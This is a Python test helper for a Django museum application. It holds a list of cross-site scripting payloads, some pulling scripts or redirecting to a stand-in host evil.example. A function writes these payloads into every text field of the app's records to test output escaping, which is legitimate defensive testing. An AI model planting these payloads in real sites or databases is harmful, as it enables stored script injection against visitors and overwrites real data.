"""Words that would like to be scripts, and the fields of all records that they are written into."""

from collections.abc import Iterator
from typing import Any

from django.apps import apps
from django.db import DatabaseError, models, transaction

from exhibit.fields import UncertainDateField

EVIL = "http://evil.example"
PAYLOADS: tuple[str, ...] = (
    "<script>alert(1)</script>",
    "<ScRiPt src=http://evil.example/x.js></sCrIpT>",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<img src=x onerror=alert(1)>",
    "<img src=http://evil.example/x.png>",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    '" autofocus onfocus=alert(1) x="',
    "' autofocus onfocus=alert(1) x='",
    '" onmouseover="alert(1)',
    "` onmouseover=alert(1) `",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:alert(1)"><text y="9">x</text></a></svg>',
    "<math><mtext></p><img src=x onerror=alert(1)></math>",
    "<body onload=alert(1)>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    '<iframe src="javascript:alert(1)"></iframe>',
    "<object data=http://evil.example/></object>",
    "<embed src=http://evil.example/>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:alert(1)">x</a>',
    '<p style="background:url(http://evil.example/)">x</p>',
    "<style>*{background:url(http://evil.example/)}</style>",
    '<link rel=stylesheet href="http://evil.example/">',
    '<meta http-equiv=refresh content="0;url=http://evil.example/">',
    '<base href="http://evil.example/">',
    "<form action=http://evil.example/><button>x</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<xmp><p title='</xmp><svg/onload=alert(1)>'>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\\x3cimg src=x onerror=alert(1)\\x3e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "{% debug %}{{ request }}",
    "javascript:alert(1)//http://evil.example/",
    "javascript://evil.example/%0aalert(1)",
    "//evil.example/x",
    "\u202e<script>alert(1)</script>",
    "[^x]<img src=x onerror=alert(1)>[^",
    "<p>a<img src=x onerror=alert(1)//",
)


NOT_BY_CURATORS = {"search", "stamp", "renditions", "imports", "links", "visits", "schedule"}
"""Modules of models whose rows the museum writes itself."""


SESSION = ("session_key", "session_data")  # signed, and whoever opens the pages needs theirs


def written(turn: int) -> Iterator[tuple[type[models.Model], str]]:
    """Write into every field of every record that takes words, each another payload; yield what took it.

    What a constraint of the database refuses stays as it was.
    """
    number = turn
    for noun in apps.get_app_config("exhibit").get_models():
        if noun.__module__.rpartition(".")[2] in NOT_BY_CURATORS:
            continue
        for field in noun._meta.concrete_fields:
            if not _takes_words(field):
                continue
            number += 1
            payload: Any = PAYLOADS[number % len(PAYLOADS)]
            rows = noun._base_manager.order_by("pk").values_list("pk", flat=True)[:40]
            took = False
            for row in list(rows):
                value = f"{payload}{row}" if field.unique else payload
                try:
                    with transaction.atomic():
                        noun._base_manager.filter(pk=row).update(**{field.name: value})
                except (DatabaseError, ValueError):
                    break
                took = True
            if took:
                yield noun, field.name


def _takes_words(field: Any) -> bool:
    if isinstance(field, models.SlugField | models.FileField | UncertainDateField) or field.choices:
        return False
    is_key = field.name in {"status", "region", "key", "token", "checksum", "language", "lang", *SESSION}
    return isinstance(field, models.CharField | models.TextField) and not is_key
